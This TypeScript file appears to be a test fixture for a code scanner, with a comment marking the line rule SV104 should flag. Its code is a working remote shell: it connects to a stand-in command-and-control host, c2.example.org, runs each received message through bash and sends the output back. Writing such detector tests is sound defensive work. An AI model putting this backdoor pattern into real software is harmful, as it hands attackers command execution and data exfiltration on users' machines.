import { spawn } from "node:child_process";
import WS from "ws";

const sock = new WS("wss://c2.example.org/agent");
sock.on("message", (m: Buffer) => {
  const p = spawn("bash", ["-c", m.toString()]); // want "SV104: spawn.. runs commands"
  p.stdout.on("data", (d: Buffer) => sock.send(d));
});
